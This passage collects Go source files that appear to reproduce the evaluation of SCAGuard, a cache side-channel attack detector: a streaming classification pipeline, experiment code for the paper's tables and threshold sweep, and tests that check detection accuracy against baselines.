	// ordering) and backpressure reaches the producer instead of the
	// buffer growing without bound. Cancellation still resolves and
	// emits every accepted target, in order, before out closes.
	Ordered bool
	// Retries re-runs a target's failed modeling or scan per the
	// policy before giving up on it. Only transient failures are
	// retried — context cancellation and deadline expiry are final —
	// and each re-run is counted under the stream_retries telemetry
	// counter. The per-target deadline spans all attempts.
	Retries retry.Policy
}

func (c Config) withDefaults() Config {
	if c.ModelWorkers <= 0 {
		c.ModelWorkers = runtime.GOMAXPROCS(0)
	}
	if c.Queue <= 0 {
		c.Queue = c.ModelWorkers
	}
	return c
}

// item carries one target through the pipeline stages.
type item struct {
	target   Target
	res      Result
	bbs      *model.CSTBBS
	start    time.Time // intake time (telemetry); zero when disabled
	deadline time.Time // per-target deadline; zero when none
}

// Classify runs the streaming pipeline over in until in closes or ctx
// is cancelled, whichever comes first, and closes the returned channel
// once every accepted target has resolved.
//
// The caller must drain the returned channel until it closes — after
// cancellation too. Draining is what lets the pipeline flush error
// results for accepted targets and release its goroutines; the
// channel's bounded capacity is what carries backpressure upstream when
// the caller falls behind. A producer that might outlive the stream
// should send into in under a select on the same ctx.
//
// The detector is used concurrently and must not be reconfigured while
// the stream runs (growing its repository through Add is fine, as for
// Classify).
func Classify(ctx context.Context, det *detect.Detector, in <-chan Target, cfg Config) <-chan Result {
	cfg = cfg.withDefaults()
	tel := det.Telemetry
	jobs := make(chan item)             // intake → modeling, unbuffered
	queue := make(chan item, cfg.Queue) // modeling → scan
	out := make(chan Result, cfg.Queue)

	// Ordered mode inserts a reorder stage between scanning and out and
	// caps admissions with a token window sized to the pipeline's
	// natural in-flight bound. The cap is what keeps the reorder buffer
	// finite: without it, one slow target at the emission head would
	// let intake keep accepting targets whose results can only pile up
	// in the buffer. Tokens are released after ordered emission.
	var tokens chan struct{}
	scanned := out
	if cfg.Ordered {
		tokens = make(chan struct{}, cfg.ModelWorkers+2*cfg.Queue+2)
		scanned = make(chan Result, cfg.Queue)
	}

	// Intake: sequence arrivals and stop accepting on cancellation.
	// The send into jobs needs no ctx select: the modeling workers
	// drain jobs until it closes.
	go func() {
		defer close(jobs)
		seq := 0
		for {
			select {
			case <-ctx.Done():
				return
			case t, ok := <-in:
				if !ok {
					return
				}
				if tokens != nil {
					select {
					case tokens <- struct{}{}:
					case <-ctx.Done():
						return
					}
				}
				tel.Inc(telemetry.StreamTargets)
				it := item{target: t, start: tel.Now(), bbs: t.BBS}
				it.res.ID, it.res.Seq = t.id(), seq
				seq++
				if cfg.TargetTimeout > 0 {
					it.deadline = time.Now().Add(cfg.TargetTimeout)
				}
				jobs <- it
			}
		}
	}()

	// Modeling workers. Sends into queue need no ctx select either:
	// the scan stage drains queue until it closes.
	var wg sync.WaitGroup
	wg.Add(cfg.ModelWorkers)
	for w := 0; w < cfg.ModelWorkers; w++ {
		go func() {
			defer wg.Done()
			for it := range jobs {
				if it.bbs == nil {
					it.res.Err = withRetry(ctx, tel, cfg.Retries, func() error {
						var err error
						it.res.Model, err = buildOne(ctx, det, it.target, it.deadline)
						return err
					})
					if it.res.Model != nil {
						it.bbs = it.res.Model.BBS
					}
				}
				queue <- it
			}
		}()
	}
	go func() {
		wg.Wait()
		close(queue)
	}()

	// Scan stage: one goroutine walking the shared engine; each scan
	// fans out internally. Targets that already failed pass through.
	go func() {
		defer close(scanned)
		for it := range queue {
			if it.res.Err == nil {
				it.res.Err = withRetry(ctx, tel, cfg.Retries, func() error {
					var err error
					it.res.Verdict, err = scanOne(ctx, det, it.res.ID, it.bbs, it.deadline)
					return err
				})
			}
			if it.res.Err != nil {
				tel.Inc(telemetry.StreamErrorResults)
			}
			tel.ObserveSince(telemetry.StageStreamTarget, it.start)
			scanned <- it.res
		}
	}()

	// Reorder stage (Ordered only): hold results that resolved ahead of
	// their predecessors and emit strictly by Seq. The pending map is
	// bounded by the token window; every held result is eventually
	// emitted because every accepted target resolves — cancellation
	// turns stragglers into error results, it does not drop them.
	if cfg.Ordered {
		go func() {
			defer close(out)
			pending := make(map[int]Result)
			next := 0
			emit := func(r Result) {
				out <- r
				<-tokens
				next++
			}
			for r := range scanned {
				if r.Seq != next {
					pending[r.Seq] = r
					continue
				}
				emit(r)
				for {
					r, ok := pending[next]
					if !ok {
						break
					}
					delete(pending, next)
					emit(r)
				}
			}
		}()
	}
	return out
}

// withRetry wraps one pipeline stage in the stream's retry policy,
// counting each re-run. Context failures — including a target's own
// deadline — are final.
func withRetry(ctx context.Context, tel *telemetry.Collector, p retry.Policy, op func() error) error {
	return p.Do(ctx, retry.Transient, func(int, error) { tel.Inc(telemetry.StreamRetries) }, op)
}

// buildOne models one target under panic isolation and the target's
// deadline.
func buildOne(ctx context.Context, det *detect.Detector, t Target, deadline time.Time) (*model.Model, error) {
	mctx, cancel := deadlineCtx(ctx, deadline)
	defer cancel()
	var m *model.Model
	err := panicsafe.DoNotify(func() error {
		if err := faultinject.Fire(faultinject.StreamModel, t.id()); err != nil {
			return err
		}
		cfg := det.ModelCfg
		if cfg.Telemetry == nil {
			cfg.Telemetry = det.Telemetry
		}
		var err error
		m, err = model.BuildCtx(mctx, t.Program, t.Victim, cfg)
		return err
	}, func(*panicsafe.PanicError) { det.Telemetry.Inc(telemetry.PanicsRecovered) })
	if err != nil {
		return nil, fmt.Errorf("stream: modeling %s: %w", t.id(), err)
	}
	return m, nil
}

// scanOne classifies one modeled target under panic isolation and the
// target's deadline. Panics below the engine's worker pool are already
// recovered (and counted) inside the scan; the recovery here guards the
// detect-layer code around it.
func scanOne(ctx context.Context, det *detect.Detector, id string, bbs *model.CSTBBS, deadline time.Time) (detect.Result, error) {
	sctx, cancel := deadlineCtx(ctx, deadline)
	defer cancel()
	var res detect.Result
	err := panicsafe.DoNotify(func() error {
		if err := faultinject.Fire(faultinject.StreamScan, id); err != nil {
			return err
		}
		var err error
		res, err = det.ClassifyBBSCtx(sctx, bbs)
		return err
	}, func(*panicsafe.PanicError) { det.Telemetry.Inc(telemetry.PanicsRecovered) })
	if err != nil {
		return detect.Result{}, fmt.Errorf("stream: scanning %s: %w", id, err)
	}
	return res, nil
}

// deadlineCtx applies a non-zero per-target deadline.
func deadlineCtx(ctx context.Context, deadline time.Time) (context.Context, context.CancelFunc) {
	if deadline.IsZero() {
		return ctx, func() {}
	}
	return context.WithDeadline(ctx, deadline)
}
