package experiments

import (
	"fmt"
	"strings"

	"repro/internal/attacks"
	"repro/internal/cache"
	"repro/internal/metrics"
)

// SensitivityRow reports E1-style SCAGuard quality under one cache
// micro-architecture, probing whether the approach depends on the
// specific hierarchy it was developed on (a robustness question the
// paper's generic-design argument implies but does not measure).
type SensitivityRow struct {
	Name   string
	Scores metrics.Scores
}

// Sensitivity reruns SCAGuard's E1 classification under variant cache
// hierarchies: the default, a FIFO-replacement LLC, a half-size LLC and
// a double-associativity LLC. The attack PoCs themselves are unchanged;
// both the repository and the targets are re-collected per hierarchy, as
// a defender deploying on different hardware would.
func Sensitivity(config Config) ([]SensitivityRow, error) {
	config = config.withDefaults()
	variants := []struct {
		name string
		mut  func(*cache.HierarchyConfig)
	}{
		{"default (256x8 LRU)", func(h *cache.HierarchyConfig) {}},
		{"FIFO LLC", func(h *cache.HierarchyConfig) { h.LLC.Policy = cache.FIFO }},
		{"half-size LLC (128 sets)", func(h *cache.HierarchyConfig) { h.LLC.Sets = 128 }},
		{"16-way LLC", func(h *cache.HierarchyConfig) { h.LLC.Ways = 16 }},
	}
	var out []SensitivityRow
	for _, v := range variants {
		cfg := config
		hier := cache.DefaultHierarchyConfig()
		v.mut(&hier)
		cfg.Model.Exec.Hierarchy = hier

		corpus, err := prepareE1Corpus(cfg)
		if err != nil {
			return nil, fmt.Errorf("sensitivity %q: %w", v.name, err)
		}
		repo, err := buildRepo(attacks.Families(), cfg)
		if err != nil {
			return nil, fmt.Errorf("sensitivity %q: %w", v.name, err)
		}
		conf := metrics.NewConfusion()
		for _, p := range corpus {
			pred := classifySCAGuard(repo, p, cfg.Threshold)
			conf.Add(string(p.Label), string(pred))
		}
		out = append(out, SensitivityRow{Name: v.name, Scores: conf.Macro()})
	}
	return out, nil
}

// FormatSensitivity renders the rows.
func FormatSensitivity(rows []SensitivityRow) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-26s %10s %10s %10s\n", "Hierarchy", "Precision", "Recall", "F1-score")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-26s %9.2f%% %9.2f%% %9.2f%%\n",
			r.Name, r.Scores.Precision*100, r.Scores.Recall*100, r.Scores.F1*100)
	}
	return b.String()
}
