package experiments

import (
	"fmt"
	"strings"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/model"
	"repro/internal/similarity"
)

// TableVRow is one row of Table V: the similarity score of a scenario.
type TableVRow struct {
	No          string
	Scenario    string
	Description string
	Score       float64
}

// TableV reproduces the five similarity scenarios:
//
//	S1 Flush+Reload vs another Flush+Reload implementation
//	S2 Flush+Reload vs Evict+Reload
//	S3 Flush+Reload vs Prime+Probe
//	S4 Flush+Reload vs its Spectre variant
//	S5 Flush+Reload vs benign programs (average over a benign panel)
func TableV(config Config) ([]TableVRow, error) {
	config = config.withDefaults()
	params := attacks.DefaultParams()
	buildBBS := func(poc attacks.PoC) (*model.CSTBBS, error) {
		m, err := model.Build(poc.Program, poc.Victim, config.Model)
		if err != nil {
			return nil, fmt.Errorf("table v: %s: %w", poc.Name, err)
		}
		return m.BBS, nil
	}
	fr, err := buildBBS(attacks.FlushReloadIAIK(params))
	if err != nil {
		return nil, err
	}
	opts := similarity.DefaultOptions()
	score := func(other *model.CSTBBS) float64 { return similarity.Score(fr, other, opts) }

	fr2, err := buildBBS(attacks.FlushReloadNepoche(params))
	if err != nil {
		return nil, err
	}
	er, err := buildBBS(attacks.EvictReloadIAIK(params))
	if err != nil {
		return nil, err
	}
	pp, err := buildBBS(attacks.PrimeProbeIAIK(params))
	if err != nil {
		return nil, err
	}
	sfr, err := buildBBS(attacks.SpectreFRIdea(params))
	if err != nil {
		return nil, err
	}

	// S5: average over a representative benign panel (one per family).
	panel := []benign.Spec{
		{Kind: benign.KindCrypto, Template: "aes-ttable", Seed: 1},
		{Kind: benign.KindCrypto, Template: "rc4-stream", Seed: 2},
		{Kind: benign.KindLeetcode, Template: "binary-search", Seed: 3},
		{Kind: benign.KindSpec, Template: "histogram", Seed: 4},
		{Kind: benign.KindServer, Template: "openntpd-ts", Seed: 5},
		{Kind: benign.KindServer, Template: "sqlite-btree", Seed: 6},
	}
	var benignSum float64
	for _, spec := range panel {
		prog, err := benign.Generate(spec)
		if err != nil {
			return nil, err
		}
		m, err := model.Build(prog, nil, config.Model)
		if err != nil {
			return nil, err
		}
		benignSum += score(m.BBS)
	}

	return []TableVRow{
		{"S1", "FR vs another FR implementation", "Different implementations of the same attack", score(fr2)},
		{"S2", "FR vs Evict+Reload", "Different variants of the same attack", score(er)},
		{"S3", "FR vs Prime+Probe", "Different attacks exploiting the same vulnerability", score(pp)},
		{"S4", "FR vs its Spectre variant", "Different variants exploiting different vulnerabilities", score(sfr)},
		{"S5", "FR vs benign programs", "An attack program and benign programs (panel average)", benignSum / float64(len(panel))},
	}, nil
}

// FormatTableV renders the rows like the paper's Table V.
func FormatTableV(rows []TableVRow) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-4s %-34s %7s\n", "No.", "Scenario", "Score")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-4s %-34s %6.2f%%\n", r.No, r.Scenario, r.Score*100)
	}
	return b.String()
}
