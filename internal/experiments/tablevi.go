package experiments

import (
	"fmt"
	"strings"
	"time"

	"repro/internal/attacks"
	"repro/internal/baseline"
	"repro/internal/dataset"
	"repro/internal/metrics"
)

// ApproachResult is one cell group of Table VI.
type ApproachResult struct {
	Approach string
	Scores   metrics.Scores
	// AvgSeconds is the mean per-sample detection cost (collection +
	// modeling/feature extraction + classification), feeding the
	// Section V time-cost discussion.
	AvgSeconds float64
	Confusion  *metrics.Confusion
}

// TaskResult is one task column group of Table VI.
type TaskResult struct {
	Task    string
	Results []ApproachResult
}

// task describes one evaluation of Section IV-D.
type task struct {
	id    string
	known []attacks.Family
	// cv: E1 uses k-fold cross validation over test (train is ignored).
	cv    bool
	train []*Prepared
	test  []*Prepared
	// truthOf maps a sample's label to the expected prediction
	// (e.g. E2: S-FR samples must be recognized as FR-F).
	truthOf map[attacks.Family]attacks.Family
}

func (t *task) truth(s *Prepared) string {
	if m, ok := t.truthOf[s.Label]; ok {
		return string(m)
	}
	return string(s.Label)
}

// TableVI runs E1-E4 for the five approaches.
func TableVI(config Config) ([]TaskResult, error) {
	config = config.withDefaults()

	plain, err := dataset.Standard(dataset.Config{PerClass: config.PerClass, Seed: config.Seed})
	if err != nil {
		return nil, err
	}
	prepared, err := prepare(plain.Samples, config)
	if err != nil {
		return nil, err
	}
	byLabel := make(map[attacks.Family][]*Prepared)
	for _, p := range prepared {
		byLabel[p.Label] = append(byLabel[p.Label], p)
	}
	// Obfuscated corpora for E4 (FR and PP, as in the paper).
	var obfuscated []*Prepared
	for i, fam := range []attacks.Family{attacks.FamilyFR, attacks.FamilyPP} {
		samples, err := dataset.AttackSamples(fam, config.PerClass, config.Seed+5000+int64(i), true)
		if err != nil {
			return nil, err
		}
		prep, err := prepare(samples, config)
		if err != nil {
			return nil, err
		}
		obfuscated = append(obfuscated, prep...)
	}

	benignAll := byLabel[attacks.FamilyBenign]
	benignTrain := make([]*Prepared, 0, len(benignAll)/2)
	benignTest := make([]*Prepared, 0, len(benignAll)/2)
	for i, p := range benignAll {
		if i%2 == 0 {
			benignTrain = append(benignTrain, p)
		} else {
			benignTest = append(benignTest, p)
		}
	}
	concat := func(groups ...[]*Prepared) []*Prepared {
		var out []*Prepared
		for _, g := range groups {
			out = append(out, g...)
		}
		return out
	}

	all := attacks.Families()
	tasks := []*task{
		{
			id:    "E1",
			known: all,
			cv:    true,
			test:  prepared,
		},
		{
			id:    "E2",
			known: []attacks.Family{attacks.FamilyFR, attacks.FamilyPP},
			train: concat(byLabel[attacks.FamilyFR], byLabel[attacks.FamilyPP], benignTrain),
			test:  concat(byLabel[attacks.FamilySFR], byLabel[attacks.FamilySPP], benignTest),
			truthOf: map[attacks.Family]attacks.Family{
				attacks.FamilySFR: attacks.FamilyFR,
				attacks.FamilySPP: attacks.FamilyPP,
			},
		},
		{
			id:    "E3-1",
			known: []attacks.Family{attacks.FamilyFR},
			train: concat(byLabel[attacks.FamilyFR], benignTrain),
			test:  concat(byLabel[attacks.FamilyPP], benignTest),
			truthOf: map[attacks.Family]attacks.Family{
				attacks.FamilyPP: attacks.FamilyFR,
			},
		},
		{
			id:    "E3-2",
			known: []attacks.Family{attacks.FamilyPP},
			train: concat(byLabel[attacks.FamilyPP], benignTrain),
			test:  concat(byLabel[attacks.FamilyFR], benignTest),
			truthOf: map[attacks.Family]attacks.Family{
				attacks.FamilyFR: attacks.FamilyPP,
			},
		},
		{
			id:    "E4",
			known: all,
			train: concat(byLabel[attacks.FamilyFR], byLabel[attacks.FamilyPP],
				byLabel[attacks.FamilySFR], byLabel[attacks.FamilySPP], benignTrain),
			test: concat(obfuscated, benignTest),
		},
	}

	var out []TaskResult
	for _, t := range tasks {
		res, err := runTask(t, config)
		if err != nil {
			return nil, err
		}
		out = append(out, res)
	}
	return out, nil
}

// runTask evaluates every approach on one task.
func runTask(t *task, config Config) (TaskResult, error) {
	result := TaskResult{Task: t.id}

	// --- learning baselines ---------------------------------------------
	type learner struct {
		name  string
		feats func(*Prepared) []float64
		train func([]baseline.Example) (baseline.Classifier, error)
	}
	learners := []learner{
		{"SVM-NW", func(p *Prepared) []float64 { return p.WinFeat },
			func(ex []baseline.Example) (baseline.Classifier, error) {
				return baseline.TrainSVM(ex, baseline.DefaultSVMConfig())
			}},
		{"LR-NW", func(p *Prepared) []float64 { return p.WinFeat },
			func(ex []baseline.Example) (baseline.Classifier, error) {
				return baseline.TrainLR(ex, baseline.DefaultLRConfig())
			}},
		{"KNN-MLFM", func(p *Prepared) []float64 { return p.LoopFeat },
			func(ex []baseline.Example) (baseline.Classifier, error) {
				return baseline.TrainKNN(ex, baseline.DefaultKNNConfig())
			}},
	}
	for _, l := range learners {
		conf := metrics.NewConfusion()
		var detectSeconds float64
		classify := func(c baseline.Classifier, samples []*Prepared) {
			for _, p := range samples {
				start := time.Now()
				pred := c.Predict(l.feats(p))
				detectSeconds += time.Since(start).Seconds() + p.PrepSeconds
				conf.Add(t.truth(p), pred)
			}
		}
		if t.cv {
			folds := metrics.KFold(len(t.test), config.Folds, config.Seed)
			for _, fold := range folds {
				trainIdx, testIdx := fold[0], fold[1]
				if len(trainIdx) == 0 {
					continue
				}
				var ex []baseline.Example
				for _, i := range trainIdx {
					ex = append(ex, baseline.Example{X: l.feats(t.test[i]), Label: t.truth(t.test[i])})
				}
				c, err := l.train(ex)
				if err != nil {
					return result, fmt.Errorf("%s/%s: %w", t.id, l.name, err)
				}
				var testSamples []*Prepared
				for _, i := range testIdx {
					testSamples = append(testSamples, t.test[i])
				}
				classify(c, testSamples)
			}
		} else {
			var ex []baseline.Example
			for _, p := range t.train {
				// The learners train on the defender's raw labels; the
				// truth mapping only re-labels test-time expectations.
				ex = append(ex, baseline.Example{X: l.feats(p), Label: string(p.Label)})
			}
			c, err := l.train(ex)
			if err != nil {
				return result, fmt.Errorf("%s/%s: %w", t.id, l.name, err)
			}
			classify(c, t.test)
		}
		result.Results = append(result.Results, ApproachResult{
			Approach:   l.name,
			Scores:     conf.Macro(),
			AvgSeconds: detectSeconds / float64(conf.Total()),
			Confusion:  conf,
		})
	}

	// --- SCADET -----------------------------------------------------------
	{
		conf := metrics.NewConfusion()
		ppKnown := false
		for _, f := range t.known {
			if f == attacks.FamilyPP {
				ppKnown = true
			}
		}
		scadet := baseline.NewSCADET()
		var detectSeconds float64
		for _, p := range t.test {
			start := time.Now()
			pred := scadet.BenignLabel
			if ppKnown {
				pred = scadet.Detect(p.Trace, p.Program)
			}
			detectSeconds += time.Since(start).Seconds() + p.PrepSeconds
			conf.Add(t.truth(p), pred)
		}
		result.Results = append(result.Results, ApproachResult{
			Approach:   "SCADET",
			Scores:     conf.Macro(),
			AvgSeconds: detectSeconds / float64(conf.Total()),
			Confusion:  conf,
		})
	}

	// --- SCAGuard ----------------------------------------------------------
	{
		repo, err := buildRepo(t.known, config)
		if err != nil {
			return result, err
		}
		conf := metrics.NewConfusion()
		var detectSeconds float64
		for _, p := range t.test {
			start := time.Now()
			pred := classifySCAGuard(repo, p, config.Threshold)
			detectSeconds += time.Since(start).Seconds() + p.PrepSeconds
			conf.Add(t.truth(p), string(pred))
		}
		result.Results = append(result.Results, ApproachResult{
			Approach:   "SCAGUARD",
			Scores:     conf.Macro(),
			AvgSeconds: detectSeconds / float64(conf.Total()),
			Confusion:  conf,
		})
	}
	return result, nil
}

// FormatTableVI renders the task results like the paper's Table VI.
func FormatTableVI(results []TaskResult) string {
	var b strings.Builder
	for _, tr := range results {
		fmt.Fprintf(&b, "== %s ==\n", tr.Task)
		fmt.Fprintf(&b, "%-10s %10s %10s %10s %12s\n", "Approach", "Precision", "Recall", "F1-score", "AvgDetect(s)")
		for _, r := range tr.Results {
			fmt.Fprintf(&b, "%-10s %9.2f%% %9.2f%% %9.2f%% %12.4f\n",
				r.Approach, r.Scores.Precision*100, r.Scores.Recall*100, r.Scores.F1*100, r.AvgSeconds)
		}
	}
	return b.String()
}
