package experiments

import (
	"strings"
	"testing"
)

func TestTimeCost(t *testing.T) {
	tc, err := MeasureTimeCost(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if tc.Samples != 11 {
		t.Errorf("samples = %d", tc.Samples)
	}
	if tc.Collection <= 0 || tc.Modeling <= 0 || tc.Comparison <= 0 {
		t.Errorf("stage times must be positive: %+v", tc)
	}
	sg := tc.PerApproach["SCAGUARD"]
	if sg <= 0 {
		t.Fatal("missing SCAGuard total")
	}
	// SCAGuard's total includes every stage; it must exceed collection
	// alone (the learners' floor).
	if sg < tc.Collection {
		t.Error("SCAGuard total below collection time")
	}
	out := tc.Format()
	for _, want := range []string{"collection", "modeling", "comparison", "SCADET"} {
		if !strings.Contains(out, want) {
			t.Errorf("format missing %q:\n%s", want, out)
		}
	}
}

func TestAblation(t *testing.T) {
	rows, err := Ablation(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows = %d", len(rows))
	}
	byName := map[string]AblationRow{}
	for _, r := range rows {
		byName[r.Name] = r
	}
	full := byName["full"].Scores.F1
	if full < 0.75 {
		t.Errorf("full configuration F1 = %.2f", full)
	}
	// The semantics-only variant must over-trigger (recall fine,
	// precision down) or otherwise degrade; the full design should not
	// be strictly dominated by any ablated variant on F1.
	for name, r := range byName {
		if name == "full" {
			continue
		}
		if r.Scores.F1 > full+0.05 {
			t.Errorf("ablation %q (%.2f) clearly beats the full design (%.2f)", name, r.Scores.F1, full)
		}
	}
	out := FormatAblation(rows)
	if !strings.Contains(out, "no-CST") {
		t.Errorf("format:\n%s", out)
	}
}

func TestSensitivity(t *testing.T) {
	rows, err := Sensitivity(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		// The method must not collapse on any hierarchy.
		if r.Scores.F1 < 0.6 {
			t.Errorf("%s: F1 = %.2f — micro-architecture dependence", r.Name, r.Scores.F1)
		}
	}
	if !strings.Contains(FormatSensitivity(rows), "FIFO") {
		t.Error("format missing variant names")
	}
}

func TestNoiseRobustness(t *testing.T) {
	rows, err := NoiseRobustness(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("rows = %d", len(rows))
	}
	clean, noisy := rows[0].Scores.F1, rows[1].Scores.F1
	if clean < 0.7 {
		t.Errorf("clean F1 = %.2f", clean)
	}
	// The method must degrade gracefully, not collapse, under noise.
	if noisy < clean-0.35 {
		t.Errorf("noise collapses detection: clean %.2f -> noisy %.2f", clean, noisy)
	}
	if !strings.Contains(FormatNoise(rows), "co-tenant") {
		t.Error("format missing condition names")
	}
}

// TestHeadlineOrderingMediumScale pins the paper's headline claims at a
// larger corpus scale; skipped under -short.
func TestHeadlineOrderingMediumScale(t *testing.T) {
	if testing.Short() {
		t.Skip("medium-scale regression")
	}
	cfg := DefaultConfig()
	cfg.PerClass = 40
	cfg.Folds = 5
	results, err := TableVI(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, tr := range results {
		var scaguard, bestBaseline float64
		for _, r := range tr.Results {
			if r.Approach == "SCAGUARD" {
				scaguard = r.Scores.F1
			} else if r.Scores.F1 > bestBaseline {
				bestBaseline = r.Scores.F1
			}
		}
		switch tr.Task {
		case "E2", "E3-1", "E3-2":
			if scaguard < bestBaseline {
				t.Errorf("%s: SCAGuard %.3f below best baseline %.3f", tr.Task, scaguard, bestBaseline)
			}
			if scaguard < 0.95 {
				t.Errorf("%s: SCAGuard F1 %.3f below 0.95", tr.Task, scaguard)
			}
		case "E1", "E4":
			if scaguard < 0.85 {
				t.Errorf("%s: SCAGuard F1 %.3f below 0.85", tr.Task, scaguard)
			}
			if scaguard < bestBaseline-0.06 {
				t.Errorf("%s: SCAGuard %.3f trails best baseline %.3f by more than 6 points",
					tr.Task, scaguard, bestBaseline)
			}
		}
	}
}
