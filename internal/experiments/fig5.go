package experiments

import (
	"fmt"
	"strings"

	"repro/internal/attacks"
	"repro/internal/dataset"
	"repro/internal/detect"
	"repro/internal/metrics"
)

// Fig5Point is one threshold setting of Fig. 5.
type Fig5Point struct {
	Threshold float64
	Scores    metrics.Scores
}

// Fig5 sweeps SCAGuard's similarity threshold over an E1-style corpus
// and reports macro precision/recall/F1 at each setting. Scores are
// computed once per sample; only the thresholding is re-applied, exactly
// like tuning the deployed system.
func Fig5(config Config, thresholds []float64) ([]Fig5Point, error) {
	config = config.withDefaults()
	if len(thresholds) == 0 {
		for th := 0.05; th <= 0.951; th += 0.05 {
			thresholds = append(thresholds, th)
		}
	}
	corpus, err := dataset.Standard(dataset.Config{PerClass: config.PerClass, Seed: config.Seed})
	if err != nil {
		return nil, err
	}
	prepared, err := prepare(corpus.Samples, config)
	if err != nil {
		return nil, err
	}
	repo, err := buildRepo(attacks.Families(), config)
	if err != nil {
		return nil, err
	}
	// Pre-compute the best match of every sample once.
	type scored struct {
		truth  string
		family attacks.Family
		score  float64
	}
	var scoredSamples []scored
	for _, p := range prepared {
		res := classifyMatches(repo, p)
		scoredSamples = append(scoredSamples, scored{
			truth:  string(p.Label),
			family: res.family,
			score:  res.score,
		})
	}
	var out []Fig5Point
	for _, th := range thresholds {
		conf := metrics.NewConfusion()
		for _, s := range scoredSamples {
			pred := string(attacks.FamilyBenign)
			if s.score >= th {
				pred = string(s.family)
			}
			conf.Add(s.truth, pred)
		}
		out = append(out, Fig5Point{Threshold: th, Scores: conf.Macro()})
	}
	return out, nil
}

type bestMatch struct {
	family attacks.Family
	score  float64
}

// classifyMatches returns the best repository match of a sample without
// applying a threshold (a zero-threshold detector always names the best
// family).
func classifyMatches(repo *detect.Repository, p *Prepared) bestMatch {
	d := detect.NewDetector(repo)
	d.Threshold = 0
	res := d.ClassifyBBS(p.BBS)
	return bestMatch{family: res.Best.Family, score: res.Best.Score}
}

// FormatFig5 renders the sweep as an aligned text series.
func FormatFig5(points []Fig5Point) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-10s %10s %10s %10s\n", "Threshold", "Precision", "Recall", "F1-score")
	for _, p := range points {
		fmt.Fprintf(&b, "%9.0f%% %9.2f%% %9.2f%% %9.2f%%\n",
			p.Threshold*100, p.Scores.Precision*100, p.Scores.Recall*100, p.Scores.F1*100)
	}
	return b.String()
}

// PlateauRange returns the threshold interval where P, R and F1 all stay
// at or above the floor (the paper's 30%-60% plateau claim at 90%).
func PlateauRange(points []Fig5Point, floor float64) (lo, hi float64, ok bool) {
	for _, p := range points {
		if p.Scores.Precision >= floor && p.Scores.Recall >= floor && p.Scores.F1 >= floor {
			if !ok {
				lo, ok = p.Threshold, true
			}
			hi = p.Threshold
		}
	}
	return lo, hi, ok
}
