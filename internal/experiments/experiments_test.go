package experiments

import (
	"strings"
	"testing"
)

// smallConfig keeps the experiment tests fast while exercising the full
// machinery.
func smallConfig() Config {
	c := DefaultConfig()
	c.PerClass = 6
	c.Folds = 3
	return c
}

func TestTableIV(t *testing.T) {
	rows, err := TableIV(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 { // four families + average
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.TAB == 0 {
			t.Errorf("%s: no ground-truth blocks", r.Family)
		}
		if r.ITAB > r.TAB || r.ITAB > r.IAB {
			t.Errorf("%s: inconsistent counts %+v", r.Family, r)
		}
		if r.IAB > r.BB {
			t.Errorf("%s: identified more blocks than exist", r.Family)
		}
		// The headline claim: most ground-truth attack blocks are found.
		if r.Accuracy < 0.8 {
			t.Errorf("%s: identification accuracy %.2f below 80%%", r.Family, r.Accuracy)
		}
	}
	avg := rows[len(rows)-1]
	if avg.Family != "Avg." {
		t.Error("last row must be the average")
	}
	// And the reduction claim: the pipeline shrinks the block set.
	totalBB, totalIAB, ratio := ReductionStats(rows)
	if totalIAB >= totalBB || ratio <= 0.2 {
		t.Errorf("weak reduction: %d -> %d (%.0f%%)", totalBB, totalIAB, ratio*100)
	}
	out := FormatTableIV(rows)
	if !strings.Contains(out, "Avg.") || !strings.Contains(out, "#ITAB") {
		t.Errorf("format:\n%s", out)
	}
}

func TestTableV(t *testing.T) {
	rows, err := TableV(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 {
		t.Fatalf("rows = %d", len(rows))
	}
	// The paper's shape: S1 is the highest attack-pair score, S5 is far
	// below every attack scenario, and every attack scenario clears the
	// 45% threshold while the benign one stays under it.
	s := func(i int) float64 { return rows[i].Score }
	for i := 0; i < 4; i++ {
		if s(i) < 0.45 {
			t.Errorf("%s: score %.2f under the detection threshold", rows[i].No, s(i))
		}
	}
	if s(4) >= 0.45 {
		t.Errorf("S5: benign score %.2f above the threshold", s(4))
	}
	if s(0) <= s(4) || s(1) <= s(4) || s(2) <= s(4) || s(3) <= s(4) {
		t.Error("attack scenarios must all beat the benign scenario")
	}
	if s(0) < s(3) {
		t.Errorf("S1 (%.2f) should not score below S4 (%.2f)", s(0), s(3))
	}
	out := FormatTableV(rows)
	if !strings.Contains(out, "S5") {
		t.Errorf("format:\n%s", out)
	}
}

func TestTableVIShape(t *testing.T) {
	results, err := TableVI(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 5 {
		t.Fatalf("tasks = %d", len(results))
	}
	byTask := map[string]map[string]ApproachResult{}
	for _, tr := range results {
		byTask[tr.Task] = map[string]ApproachResult{}
		if len(tr.Results) != 5 {
			t.Fatalf("%s: approaches = %d", tr.Task, len(tr.Results))
		}
		for _, r := range tr.Results {
			byTask[tr.Task][r.Approach] = r
		}
	}
	// Headline shape claims of the paper:
	// 1. SCAGuard achieves high scores on every task.
	for task, rs := range byTask {
		sg := rs["SCAGUARD"]
		if sg.Scores.F1 < 0.70 {
			t.Errorf("%s: SCAGuard F1 = %.2f, want >= 0.70\n%s", task, sg.Scores.F1, sg.Confusion)
		}
	}
	// 2. SCAGuard beats every baseline on the generalizability tasks.
	for _, task := range []string{"E3-1", "E3-2"} {
		sg := byTask[task]["SCAGUARD"]
		for _, name := range []string{"SVM-NW", "LR-NW", "KNN-MLFM", "SCADET"} {
			if byTask[task][name].Scores.F1 > sg.Scores.F1 {
				t.Errorf("%s: %s (%.2f) beats SCAGuard (%.2f)",
